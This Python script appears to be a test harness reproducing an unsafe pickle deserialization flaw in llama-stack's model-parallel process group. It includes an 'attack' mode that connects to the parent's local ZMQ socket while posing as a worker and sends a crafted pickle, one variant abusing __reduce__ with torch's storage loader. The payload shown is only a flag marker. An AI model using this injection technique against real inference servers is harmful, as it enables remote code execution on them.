"""llama-stack's model-parallel group: the parent asks over a DEALER, torch's launcher forks the workers."""

import io
import pickle
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import marker
import talk
import torch
import zmq
from llama_stack.providers.impls.meta_reference.inference.parallel_utils import ModelParallelProcessGroup

WORKERS = 2


@dataclass
class Task:
    """What is to be generated."""

    prompt: list[int]
    temperature: float


def build() -> Callable[[Task], Iterator[torch.Tensor]]:
    """A model of no weights, in a group of processes as the real one's."""
    torch.distributed.init_process_group("gloo")
    return generate


def generate(task: Task) -> Iterator[torch.Tensor]:
    """A token at a time."""
    if not task.prompt:
        raise LookupError("no prompt")
    for token in task.prompt:
        yield torch.tensor([token + 1])


def ask(group: ModelParallelProcessGroup, number: int) -> bool:
    """Tokens of one prompt, in order; and an exception, which the workers send as an object."""
    tokens = [int(token) for token in group.run_inference(Task([number, 7], 0.6))]
    try:
        list(group.run_inference(Task([], 0.6)))
    except LookupError:
        return tokens == [number + 1, 8]
    return False


class Tensor:
    """Loads as a tensor's storage does, with the marker where torch writes a dictionary."""

    def __init__(self, flag: str) -> None:
        self._flag = flag

    def __reduce__(self) -> tuple[object, tuple[bytes]]:
        written = io.BytesIO()
        torch.save(marker.Marker(self._flag), written)
        return torch.storage._load_from_bytes, (written.getvalue(),)  # noqa: SLF001


def attack(port: str, flag: str, wrapped: str = "") -> None:
    """Another process on the same machine, that says it is a worker. It leaves before the parent sends it a task."""
    sent = Tensor(flag) if wrapped else marker.Marker(flag)
    with zmq.Context() as context, context.socket(zmq.DEALER) as socket:
        socket.connect(f"tcp://127.0.0.1:{port}")
        socket.send(pickle.dumps(sent))
        time.sleep(0.5)


def main() -> None:
    """The program."""
    group = ModelParallelProcessGroup(WORKERS, build)
    group.start()
    port = group.request_socket.getsockopt_string(zmq.LAST_ENDPOINT).rpartition(":")[2]
    talk.converse(
        {"address": port},
        {
            "good": talk.counted(lambda number: ask(group, number)),
            "alive": lambda: {"alive": group.process.is_alive()},
        },
    )
    group.stop()


if __name__ == "__main__":
    if sys.argv[1:2] == ["attack"]:
        attack(*sys.argv[2:])
    else:
        main()
